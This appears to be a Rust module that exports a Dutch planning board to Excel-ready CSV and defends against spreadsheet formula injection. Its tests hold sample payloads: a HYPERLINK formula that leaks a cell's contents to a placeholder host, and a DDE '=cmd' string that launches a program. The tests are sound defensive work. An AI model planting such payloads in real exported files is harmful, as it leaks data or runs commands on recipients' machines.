//! CSV export for Excel as used in the Netherlands: UTF-8 with a byte order
//! mark, `;` between fields, dates as dd-mm-jjjj, one row per item.

use chrono::NaiveDateTime;

use crate::model::comments::live;
use crate::model::dates;
use crate::model::{Board, Item, Timestamp};
use crate::strings as s;

/// Column headings, in order.
/// The comment columns come after the labels, so that the columns before
/// them stay where sheets made from earlier exports expect them.
pub const HEADERS: [&str; 15] = [
    "Lijn",
    "Kolom",
    "Titel",
    "Notities",
    "Trekker",
    "Team",
    "Startdatum",
    "Einddatum",
    "Intern/extern",
    "Labels",
    "Opmerkingen",
    "Laatste opmerking",
    "Aangemaakt",
    "Laatst gewijzigd",
    "Id",
];

/// A cell as text, never as a formula: Excel (and LibreOffice) read a cell
/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (or
/// their full-width forms) as a formula, so a title like
/// `=HYPERLINK(…)` would become a live link, and `+31 20 123` an error.
/// Such a cell gets a leading apostrophe, which Excel shows as text.
pub fn as_text(cell: String) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠') => {
            format!("'{cell}")
        }
        _ => cell,
    }
}

fn row(board: &Board, item: &Item, local: &impl Fn(Timestamp) -> NaiveDateTime) -> Vec<String> {
    let date = |d: Option<chrono::NaiveDate>| d.map(s::date).unwrap_or_default();
    let line = board
        .line(item.line)
        .map(|l| format!("{} {}", l.number, l.name))
        .unwrap_or_default();
    let column = board
        .column(item.column)
        .map(|c| c.name.clone())
        .unwrap_or_default();
    vec![
        line,
        column,
        item.title.clone(),
        item.notes.clone(),
        item.trekker.clone(),
        item.team.clone(),
        date(item.start),
        date(item.end),
        item.scope
            .map(|sc| s::scope(sc).to_string())
            .unwrap_or_default(),
        item.tags.join(", "),
        live(&item.comments).count().to_string(),
        // The thread is in time order: the last live one is the newest.
        live(&item.comments)
            .last()
            .map(|c| s::comment_line(&c.by, local(c.at).date(), &c.text))
            .unwrap_or_default(),
        dates::dutch_time(local(item.created)),
        dates::dutch_time(local(item.updated)),
        item.id.to_string(),
    ]
}

/// The board as CSV bytes (UTF-8 with BOM), rows by line, column, order.
/// `local` turns a time into the user's wall-clock time (the browser's
/// zone), as the editor shows it.
pub fn export(board: &Board, local: impl Fn(Timestamp) -> NaiveDateTime) -> Vec<u8> {
    let items: std::collections::HashMap<_, _> = board.items.iter().map(|i| (i.id, i)).collect();
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = ::csv::WriterBuilder::new()
            .delimiter(b';')
            .terminator(::csv::Terminator::CRLF)
            .from_writer(&mut out);
        // Not `expect`: that would build the error's Debug code into the wasm.
        w.write_record(HEADERS)
            .unwrap_or_else(|_| unreachable!("writing to memory"));
        for cell in board.cells() {
            for id in board.cell_ids(cell) {
                if let Some(item) = items.get(&id) {
                    let cells = row(board, item, &local).into_iter().map(as_text);
                    w.write_record(cells)
                        .unwrap_or_else(|_| unreachable!("writing to memory"));
                }
            }
        }
        w.flush()
            .unwrap_or_else(|_| unreachable!("writing to memory"));
    }
    out
}

pub fn file_name(board: &Board, date: chrono::NaiveDate) -> String {
    super::file_name(board, date).replace(".planbord.json", ".csv")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::testutil::{nieuw_west_zuid, t, uid};
    use crate::model::{Edit, Stamp};

    fn by(name: &str, s: i64) -> Stamp {
        Stamp {
            at: t(s),
            by: name.into(),
        }
    }

    fn rows(bytes: &[u8]) -> Vec<::csv::StringRecord> {
        let mut r = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&bytes[3..]);
        r.records().map(|r| r.unwrap()).collect()
    }

    #[test]
    fn comments_are_counted_and_the_newest_is_quoted_with_author_and_date() {
        let mut b = nieuw_west_zuid();
        let (a, c) = (b.items[0].id, b.items[1].id);
        b.add_comment(a, uid(501), "Eerste", by("Anna", 10))
            .unwrap();
        b.add_comment(a, uid(502), "Wacht op sleutelfiguur X", by("Bram", 20))
            .unwrap();
        // The newest is deleted: the one before it is the last opmerking.
        b.add_comment(a, uid(503), "Vergissing", by("Anna", 30))
            .unwrap();
        b.delete_comment(a, uid(503), by("Anna", 31)).unwrap();
        // Written without a name; late in the evening UTC: the next day
        // in the user's zone.
        let late = 23 * 3600 - (1_700_000_000 % 86_400) + 86_400;
        b.add_comment(c, uid(504), "regel 1\nregel 2", by("", late))
            .unwrap();
        let zone = chrono::FixedOffset::east_opt(2 * 3600).unwrap();
        let rows = rows(&export(&b, |t| t.with_timezone(&zone).naive_local()));
        let row = |id: uuid::Uuid| rows.iter().find(|r| r[14] == id.to_string()).unwrap();
        let day = |s: i64| s::date(t(s).with_timezone(&zone).date_naive());
        assert_eq!(
            (&row(a)[10], &row(a)[11]),
            (
                "2",
                format!("Bram, {}: Wacht op sleutelfiguur X", day(20)).as_str()
            )
        );
        assert_eq!(&row(c)[10], "1");
        assert_eq!(&row(c)[11], format!("{}: regel 1\nregel 2", day(late)));
        assert_ne!(
            day(late),
            s::date(t(late).date_naive()),
            "the user's day, not UTC's"
        );
        let plain = row(b.items[2].id);
        assert_eq!((&plain[10], &plain[11]), ("0", ""));
    }

    #[test]
    fn reads_back_with_a_real_csv_reader() {
        let mut b = nieuw_west_zuid();
        let id = b.items[0].id;
        b.edit_item(
            id,
            Edit::Notes("regel 1; met \"aanhalingstekens\"\nregel 2".into()),
            t(1),
        )
        .unwrap();
        // Times in the user's zone (here two hours east of UTC).
        let zone = chrono::FixedOffset::east_opt(2 * 3600).unwrap();
        let bytes = export(&b, |t| t.with_timezone(&zone).naive_local());
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let mut r = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&bytes[3..]);
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), HEADERS);
        let rows: Vec<::csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 11);
        let race = rows.iter().find(|r| r[2].starts_with("Hardloop")).unwrap();
        assert_eq!((&race[6], &race[7]), ("20-05-2023", "21-05-2023"));
        assert_eq!(&race[0], "4 Behoud en werving");
        assert_eq!(&race[8], "Extern");
        let first = rows.iter().find(|r| r[14] == id.to_string()).unwrap();
        assert_eq!(&first[3], "regel 1; met \"aanhalingstekens\"\nregel 2");
        let edited = b.item(id).unwrap().updated;
        let local = (edited + chrono::Duration::hours(2)).format("%d-%m-%Y %H:%M");
        assert_eq!(&first[13], local.to_string());
    }

    #[test]
    fn cells_that_would_be_formulas_read_back_as_text() {
        let mut b = nieuw_west_zuid();
        let dangerous = [
            "=HYPERLINK(\"http://example.invalid/?\"&A2,\"Klik hier\")",
            "@SUM(A1:A9)",
            "-2+3",
            "+31 20 123 4567",
            "\tverborgen",
            "\r=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
        ];
        let ids: Vec<_> = b.items.iter().map(|i| i.id).take(dangerous.len()).collect();
        for (id, text) in ids.iter().zip(dangerous) {
            b.edit_item(*id, Edit::Title(text.into()), t(1)).unwrap();
        }
        b.edit_item(ids[0], Edit::Trekker("=cmd|' /C calc'!A0".into()), t(1))
            .unwrap();
        b.edit_item(ids[1], Edit::Tags(vec!["-label".into()]), t(1))
            .unwrap();
        let column = b.columns[0].id;
        b.rename_column(column, "=2+2", t(1)).unwrap();
        // A comment is quoted after its author and date, so only the
        // author could start a formula; both are checked.
        b.add_comment(ids[2], uid(701), "=1+1", by("=Bram", 2))
            .unwrap();
        b.add_comment(ids[3], uid(702), "=HYPERLINK(\"x\")", by("", 2))
            .unwrap();
        let bytes = export(&b, |t| t.naive_utc());
        let mut r = ::csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(&bytes[3..]);
        let rows: Vec<::csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        for (id, text) in ids.iter().zip(dangerous) {
            let row = rows.iter().find(|r| r[14] == id.to_string()).unwrap();
            assert_eq!(&row[2], format!("'{text}"), "{text:?}");
        }
        let first = rows.iter().find(|r| r[14] == ids[0].to_string()).unwrap();
        assert_eq!(&first[4], "'=cmd|' /C calc'!A0");
        let second = rows.iter().find(|r| r[14] == ids[1].to_string()).unwrap();
        assert_eq!(&second[9], "'-label");
        assert!(rows.iter().any(|r| &r[1] == "'=2+2"));
        let commented = rows.iter().find(|r| r[14] == ids[2].to_string()).unwrap();
        assert_eq!(
            &commented[11],
            format!("'=Bram, {}: =1+1", s::date(t(2).date_naive()))
        );
        let unnamed = rows.iter().find(|r| r[14] == ids[3].to_string()).unwrap();
        assert!(unnamed[11].ends_with(": =HYPERLINK(\"x\")"));
        // Nothing else is touched: no cell in the file starts a formula,
        // and ordinary text, dates and ids are as they were.
        for row in &rows {
            for cell in row.iter() {
                let first = cell.chars().next();
                assert!(
                    !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                    "{cell:?}"
                );
            }
        }
        let last = b.items[10].clone();
        let plain = rows.iter().find(|r| r[14] == last.id.to_string()).unwrap();
        assert_eq!(&plain[2], last.title);
        assert!(rows
            .iter()
            .all(|r| r[12].starts_with(|c: char| c.is_ascii_digit())));
    }
}
